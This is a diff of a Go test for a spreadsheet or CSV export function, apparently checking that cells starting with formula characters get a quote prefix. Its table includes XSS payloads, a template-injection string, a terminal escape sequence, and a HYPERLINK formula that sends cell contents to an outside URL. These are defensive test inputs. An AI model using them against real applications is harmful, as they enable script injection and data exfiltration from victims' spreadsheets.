@@ -196,7 +196,7 @@ func TestExportIsSafe(t *testing.T) {
 		{`a "quoted", cell`, `a "quoted", cell`}, {"two\nlines", "two\nlines"}, {"Ål ;x", "Ål ;x"}, {"", ""}, {"a-b=c@d", "a-b=c@d"},
 		// What begins a cell where semicolons divide them, or after blanks.
 		{"a;=1+1", "a;'=1+1"}, {"a\n=1+1;", "a\n'=1+1;"}, {"a\t@x", "a\t'@x"}, {"\r\n-1", "'\n'-1"}, {" =1+1", " '=1+1"}, {"; \"+1", "; \"'+1"}, {"＝1+1", "'＝1+1"},
-		// RELIABILITY list W.
+		// Markup, formulas and control characters.
 		{`<script>alert(1)</script>`, `<script>alert(1)</script>`}, {`"><img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`},
 		{`</textarea><svg onload=alert(1)>`, `</textarea><svg onload=alert(1)>`}, {`{{constructor.constructor('alert(1)')()}}`, `{{constructor.constructor('alert(1)')()}}`},
 		{`=HYPERLINK("https://e/?"&A1)`, `'=HYPERLINK("https://e/?"&A1)`}, {`@SUM(1)`, `'@SUM(1)`}, {"\x1b]0;owned\x07", "\x1b]0;owned\x07"},
